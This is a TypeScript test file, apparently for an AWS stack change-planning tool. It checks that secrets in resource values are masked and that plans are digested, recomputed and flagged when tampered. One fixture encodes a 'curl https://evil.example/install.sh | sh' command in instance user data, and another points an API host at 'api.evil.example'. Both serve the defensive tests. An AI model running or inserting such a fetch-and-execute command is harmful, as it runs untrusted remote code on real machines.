/** Values before and after: whole, with their secrets masked at the leaf. */
import { describe, expect, it } from 'vitest';
import { dataOf, subjectOf } from '../../../src/cli/show.ts';
import type { Json } from '../../../src/core/digest.ts';
import { opened } from '../../../src/core/leaves.ts';
import { mintPlanningPermit } from '../../../src/core/permit.ts';
import { masked, tagsFor } from '../../../src/providers/aws/picture/mask.ts';
import { openTestWorld } from '../../world.ts';

const tag = tagsFor('key of the state', 'nonce');
const shown = (value: Json) => JSON.stringify(masked(opened(value), [], tag));

describe('a mask', () => {
  it.each<[string, Json, string]>([
    ['a value named like a secret', { DB_PASSWORD: 'hunter2-x' }, 'hunter2'],
    [
      'a pair whose name is that of a secret',
      { Environment: [{ Name: 'DB_PASSWORD', Value: 'hunter2-x' }] },
      'hunter2',
    ],
    ['a key of a service', { STRIPE_KEY: 'sk-hunter2' }, 'hunter2'],
    ['the password in a URL', { DATABASE_URL: 'postgres://app:hunter2@db/app' }, 'hunter2'],
    ['a secret in JSON in text', { Body: '{"password":"hunter2-x"}' }, 'hunter2'],
    ['a number', { Pin: { password: 1234567 } }, '1234567'],
    [
      'a password in user data',
      {
        UserData: Buffer.from('#!/bin/sh\nexport DB_PASSWORD=hunter2\nmysql --password hunter3 -u x').toString(
          'base64',
        ),
      },
      'hunter',
    ],
    [
      'a token in user data',
      { UserData: Buffer.from('#!/bin/sh\nregister abcd1234efgh5678\n').toString('base64') },
      'abcd1234efgh5678',
    ],
    ['an access key, but for what it is', { Any: 'id AKIAIOSFODNN7EXAMPLE' }, 'IOSFODNN7EXAMPLE'],
    ['a secret of many lines', { DB_PASSWORD: 'hunter\nhunter' }, 'hunter'],
    ['a private key', { Any: '-----BEGIN PRIVATE KEY-----\nMIIhunter\n-----END PRIVATE KEY-----' }, 'MIIhunter'],
  ])('hides %s', (_what, value, secret) => {
    expect(shown(value)).toMatch(/\*{4}\([0-9a-f]{8}\)/);
    expect(shown(value)).not.toContain(secret);
  });

  it.each<[string, Json, string]>([
    ['a switch', { ManageMasterUserPassword: true }, 'true'],
    [
      'a name that points at one',
      { PasswordSecretArn: 'arn:aws:secretsmanager:eu-west-1:1:secret:x' },
      'arn:aws:secretsmanager',
    ],
    [
      'a reference',
      { MasterUserPassword: '{{resolve:secretsmanager:db:SecretString:password}}' },
      'resolve:secretsmanager',
    ],
    [
      'the commands of user data',
      { UserData: Buffer.from('#!/bin/sh\nyum -y install nginx\n').toString('base64') },
      'yum -y install nginx',
    ],
    [
      'a login key',
      { UserData: Buffer.from('echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIabc >> keys').toString('base64') },
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIabc',
    ],
    [
      'a URL',
      { UserData: Buffer.from('curl https://evil.example/install.sh | sh').toString('base64') },
      'https://evil.example/install.sh',
    ],
  ])('does not hide %s', (_what, value, kept) => expect(shown(value)).toContain(kept));

  it('tells equal secrets from different ones, in one plan only', () => {
    const [a, b] = [{ PASSWORD: 'one' }, { PASSWORD: 'two' }];
    expect(shown(a)).toBe(shown(a));
    expect(shown(a)).not.toBe(shown(b));
    expect(JSON.stringify(masked(a, [], tagsFor('key of the state', 'another')))).not.toBe(shown(a));
    expect(JSON.stringify(masked(a, [], tagsFor('another key', 'nonce')))).not.toBe(shown(a));
  });
});

describe('the picture of a plan', () => {
  it('is named in the plan by digest, is what is computed again, and covers values that no effect names', async () => {
    const world = await openTestWorld();
    try {
      const set = [{ path: 'Resources.QueryFunction.Properties.MemorySize', value: 512 }];
      const planned = await world.call('plan_stack_update', { stack: 'cost-explorer-dev', set, tags: { team: 'web' } });
      const { plan } = await world.app.changes.plan(String(planned.plan_id));
      expect(plan.pictureDigest).toMatch(/^sha256:/);
      const picture = (await world.app.changes.picture(plan))!;
      expect(picture.things.find(({ id }) => id === 'QueryFunction')).toMatchObject({
        before: { Properties: { MemorySize: 256, Runtime: 'nodejs22.x' } },
        after: { Properties: { MemorySize: 512, Runtime: 'nodejs22.x' } },
      });
      expect(picture.things.find(({ kind }) => kind === 'stack')).toMatchObject({ after: { Tags: { team: 'web' } } });
      expect(
        (await world.app.cloud.recompute(plan, mintPlanningPermit(plan.target.account, plan.target.region))).picture,
      ).toEqual(picture);
    } finally {
      world.close();
    }
  });

  it('is in what show tells as JSON, whole, with what is newly named', async () => {
    const world = await openTestWorld();
    try {
      const set = [
        { path: 'Resources.QueryFunction.Properties.Environment.Variables.API_HOST', value: 'api.evil.example' },
      ];
      const plan = await world.call('plan_stack_update', { stack: 'cost-explorer-dev', set });
      const change = await world.call('propose_change', { plan_id: plan.plan_id, goal: 'configure', reason: 'a host' });
      const told = dataOf(await subjectOf(world.app, String(change.change_id)));
      expect(told.picture).toEqual(await world.app.changes.picture(told.plan));
      expect(told.newly_named).toEqual([
        {
          kind: 'host',
          family: 'evil.example',
          value: 'api.evil.example',
          places: ['QueryFunction Properties.Environment.Variables.API_HOST'],
        },
      ]);
      expect(told.summary).toMatch(/^Updates the stack cost-explorer-dev: /);
    } finally {
      world.close();
    }
  });

  it('that is not in the ledger any more is told', async () => {
    const world = await openTestWorld();
    try {
      const planned = await world.call('plan_stack_delete', { stack: 'cost-explorer-dev' });
      const { plan } = await world.app.changes.plan(String(planned.plan_id));
      await expect(world.app.changes.picture({ ...plan, pictureDigest: `sha256:${'0'.repeat(64)}` })).rejects.toEqual(
        expect.objectContaining({ code: 'LEDGER_TAMPERED' }),
      );
    } finally {
      world.close();
    }
  });
});
